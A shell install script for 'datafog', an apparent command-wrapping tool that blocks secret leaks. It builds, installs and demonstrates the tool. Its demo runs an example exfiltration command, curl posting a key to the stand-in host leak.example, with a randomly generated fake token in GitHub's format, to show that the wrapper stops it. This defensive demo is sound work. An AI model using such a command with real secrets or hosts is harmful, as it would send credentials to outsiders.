#!/bin/sh
# Builds datafog from this folder (or takes a prebuilt file) and installs it for the user who runs
# this. Asks for no rights, changes nothing that it does not print, and can be taken back with
# --uninstall. Everything is in functions and the last line calls them: half a file does nothing.

set -eu

readonly MINIMUM_RUST=95 # Rust 1.95

usage() {
    cat <<'END'
Installs datafog: builds it, copies it to ROOT/bin/datafog and runs `datafog init`.

Usage: ./install.sh [OPTIONS]

Options:
  --root DIR       Where to install (default: $DATAFOG_HOME, else ~/.datafog)
  --from FILE      Install this prebuilt binary instead of building one
  --shims LIST     Commands to wrap, separated by commas (default: every known one that is here)
  --observe        Only record what would be denied; block nothing
  --no-path        Leave the start files of shells alone
  --yes            Ask nothing (without a terminal nothing is asked anyway)
  --build-only     Build, print the path of the binary on the last line, and stop
  --dry-run        Show what would be done, and do nothing
  --uninstall      Take it all back; settings, policy and receipts stay
  --purge          With --uninstall: remove settings, policy and receipts too
  --help           Show this

Needs cargo 1.95 or newer and a C compiler, unless --from is given. No sudo.

Examples:
  ./install.sh                      build, install, wrap, and show that it works
  ./install.sh --observe            the same, only recording
  ./install.sh --root /opt/datafog --no-path --yes
  ./install.sh --uninstall
END
}

say() {
    printf '%s\n' "$*"
}

fail() {
    printf 'error: %s\n' "$1" >&2
    [ $# -lt 2 ] || printf 'hint: %s\n' "$2" >&2
    exit 1
}

misused() {
    printf 'error: %s\nhint: ./install.sh --help\n' "$1" >&2
    exit 2
}

read_options() {
    root='' from='' shims='' observe=false no_path=false yes=false
    build_only=false dry_run=false uninstall=false purge=false
    while [ $# -gt 0 ]; do
        case "$1" in
        --root | --from | --shims)
            [ $# -ge 2 ] || misused "$1 needs a value"
            set_value "$1" "$2"
            shift
            ;;
        --root=* | --from=* | --shims=*) set_value "${1%%=*}" "${1#*=}" ;;
        --observe) observe=true ;;
        --no-path) no_path=true ;;
        --yes | -y) yes=true ;;
        --build-only) build_only=true ;;
        --dry-run) dry_run=true ;;
        --uninstall) uninstall=true ;;
        --purge) purge=true ;;
        --help | -h)
            usage
            exit 0
            ;;
        *) misused "unknown option $1" ;;
        esac
        shift
    done
    if [ "$purge" = true ] && [ "$uninstall" = false ]; then
        misused '--purge goes with --uninstall'
    fi
    [ -n "$root" ] || root=${DATAFOG_HOME:-}
    [ -n "$root" ] || root=${HOME:?is not set, so name a folder with --root}/.datafog
    root=$(absolute "$root")
}

set_value() {
    [ -n "$2" ] || misused "$1 needs a value"
    case "$1" in
    --root) root=$2 ;;
    --from) from=$2 ;;
    --shims) shims=$2 ;;
    esac
}

absolute() {
    case "$1" in
    /*) printf '%s' "$1" ;;
    *) printf '%s/%s' "$(pwd)" "$1" ;;
    esac
}

# The C compiler, which also links.
compiler() {
    for name in "${CC:-cc}" cc gcc clang; do
        if command -v "$name" >/dev/null 2>&1; then
            printf '%s' "$name"
            return 0
        fi
    done
    return 1
}

check_tools() {
    command -v cargo >/dev/null 2>&1 || fail 'cargo is missing' 'install Rust 1.95 or newer, or use --from FILE'
    version=$(cargo --version | sed -n 's/^cargo 1\.\([0-9]*\).*/\1/p')
    if [ -z "$version" ] || [ "$version" -lt "$MINIMUM_RUST" ]; then
        fail "cargo 1.$MINIMUM_RUST or newer is needed; this is $(cargo --version)" 'rustup update stable'
    fi
    compiler >/dev/null || fail 'a C compiler is missing' 'install gcc or clang (Debian: build-essential)'
}

# Whether a program can be linked with everything in it.
can_link_static() {
    [ "$(uname -s)" = Linux ] || return 1
    printf 'int main(void) { return 0; }\n' >"$scratch/try.c"
    "$(compiler)" -static -o "$scratch/try" "$scratch/try.c" >/dev/null 2>&1
}

# Whether the linker lays functions out in an order that is given to it.
can_order() {
    printf 'fn main() {}\n' >"$scratch/try.rs"
    rustc --target "$host" -C "link-arg=-Wl,-T,$source/benches/layout.ld" -o "$scratch/try" "$scratch/try.rs" >/dev/null 2>&1
}

# Builds the release binary and sets `built` to its path.
build() {
    host=$(rustc -vV | sed -n 's/^host: //p')
    # Asking the processor for its hash instructions costs more than a call has to hash.
    flags="${RUSTFLAGS-} --cfg sha2_backend=\"soft\""
    # What a call runs lies together: fewer pages to bring in (docs/BENCHMARKS.md).
    if can_order; then export DATAFOG_LAYOUT=1; else unset DATAFOG_LAYOUT; fi
    if can_link_static; then
        # One file without a loader, at a fixed address: a shim starts in a third of the time.
        flags="$flags -C target-feature=+crt-static -C relocation-model=static"
    elif [ "$(uname -s)" = Linux ]; then
        say 'note: no static C library here, so the binary is linked dynamically: wrapped commands'
        say '      start about a millisecond later. (Debian: libc6-dev has it; Fedora: glibc-static.)'
    fi
    target=$(absolute "${CARGO_TARGET_DIR:-$source/target}")
    say "Building for $host; the first time takes a few minutes"
    # With --target the flags are not used for build scripts, which cannot be static everywhere.
    (cd "$source" && RUSTFLAGS=$flags cargo build --release --locked --bin datafog \
        --target "$host" --target-dir "$target")
    built=$target/$host/release/datafog
}

# Copies beside the place and renames, so that a binary in use is never half written.
install_binary() {
    say "Installs $root/bin/datafog"
    (umask 077 && mkdir -p "$root/bin")
    cp "$built" "$root/bin/.datafog.new"
    chmod 755 "$root/bin/.datafog.new"
    mv -f "$root/bin/.datafog.new" "$root/bin/datafog"
}

# Calls `datafog init` of the binary $1 with our options and those after it.
run_init() {
    program=$1
    shift
    [ -z "$shims" ] || set -- "$@" --shims "$shims"
    [ "$observe" = false ] || set -- "$@" --observe
    [ "$no_path" = false ] || set -- "$@" --no-path
    [ "$yes" = false ] || set -- "$@" --yes
    "$program" init "$@"
}

rehearse() {
    say 'Would change:'
    [ -n "$from" ] || say "  build     $source (cargo build --release)"
    say "  install   $root/bin/datafog"
    if [ -n "$from" ]; then
        # It shows its own face under its own name alone.
        scratch=$(mktemp -d)
        trap 'rm -rf "$scratch"' EXIT
        ln -s "$from" "$scratch/datafog"
        DATAFOG_HOME=$root run_init "$scratch/datafog" --dry-run
    else
        say '  then      datafog init, which lists every change before it makes it'
    fi
}

take_back() {
    program=$root/bin/datafog
    [ -x "$program" ] || fail "there is no $program" 'name the root with --root'
    [ "$purge" = false ] || set -- "$@" --purge
    [ "$yes" = false ] || set -- "$@" --yes
    [ "$dry_run" = false ] || set -- "$@" --dry-run
    exec "$program" uninstall "$@"
}

# A made-up token in the form of a GitHub one: thirty random digits and their CRC-32 in base 62,
# which gzip works out. It opens nothing and stands in no file.
made_up_token() {
    body=$(LC_ALL=C tr -dc 'A-Za-z0-9' </dev/urandom | dd bs=1 count=30 2>/dev/null)
    check=$(printf '%s' "$body" | gzip -c | tail -c 8 | od -An -tu1 | awk '
        BEGIN { digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz" }
        NR == 1 {
            value = $1 + 256 * ($2 + 256 * ($3 + 256 * $4))
            for (i = 0; i < 6; i++) {
                text = substr(digits, value % 62 + 1, 1) text
                value = int(value / 62)
            }
            print text
        }')
    printf 'gh%s_%s%s' p "$body" "$check"
}

# Runs a command as a new terminal would: with the wrappers first on PATH. Asking for more
# strictness than is installed is always possible, so this also shows where it only observes.
wrapped() (
    PATH=$root/shims:$PATH
    DATAFOG_SHIM_MODE=enforced
    export PATH DATAFOG_SHIM_MODE
    "$@"
)

# The main job, for real: one command that runs and one that does not.
show() {
    datafog=$root/bin/datafog
    allowed=''
    for name in git cat curl; do
        if [ -z "$allowed" ] && [ -L "$root/shims/$name" ]; then allowed=$name; fi
    done
    say ''
    say 'This is what it does. An ordinary command runs as ever:'
    if [ -n "$allowed" ]; then
        say "  \$ $allowed --version"
        wrapped "$allowed" --version | sed 's/^/  /;q'
    else
        say '  $ datafog run -- cat --version'
        "$datafog" run -- cat --version | sed 's/^/  /;q'
    fi
    say ''
    say 'A token on its way to a stranger is stopped before anything is sent. (The token is made up,'
    say 'the name leak.example is reserved and belongs to nobody.)'
    say "  \$ curl -d \"key=\$TOKEN\" http://leak.example/"
    code=0
    if [ -L "$root/shims/curl" ] && command -v curl >/dev/null 2>&1; then
        wrapped curl -d "key=$(made_up_token)" http://leak.example/ \
            >"$scratch/notice" 2>&1 || code=$?
        expected=126
    else
        "$datafog" check -- curl -d "key=$(made_up_token)" http://leak.example/ \
            >"$scratch/notice" 2>&1 || code=$?
        expected=1
    fi
    sed 's/^/  /' "$scratch/notice"
    say "  exit code $code"
    [ "$code" -eq "$expected" ] || fail 'that should have been stopped' "$datafog doctor"
    say ''
    say 'Both are in the ledger:'
    say '  $ datafog receipts list -n 2'
    "$datafog" receipts list -n 2 | sed 's/^/  /'
}

main() {
    source=$(CDPATH="" cd -- "$(dirname "$0")" && pwd)
    read_options "$@"
    if [ "$uninstall" = true ]; then
        set --
        take_back
    fi
    if [ -n "$from" ]; then
        from=$(absolute "$from")
        [ -f "$from" ] || fail "there is no file $from"
    elif [ "$dry_run" = false ]; then
        check_tools
    fi
    if [ "$dry_run" = true ]; then
        rehearse
        return
    fi
    scratch=$(mktemp -d)
    trap 'rm -rf "$scratch"' EXIT
    trap 'exit 130' INT
    trap 'exit 143' TERM
    if [ -n "$from" ]; then built=$from; else build; fi
    if [ "$build_only" = true ]; then
        say "$built"
        return
    fi
    install_binary
    run_init "$root/bin/datafog" ||
        fail 'the set-up was not completed' "run $root/bin/datafog init when you are ready"
    show
    say ''
    say "Installed. Help: $root/bin/datafog --help   Take it back: ./install.sh --uninstall"
}

main "$@"
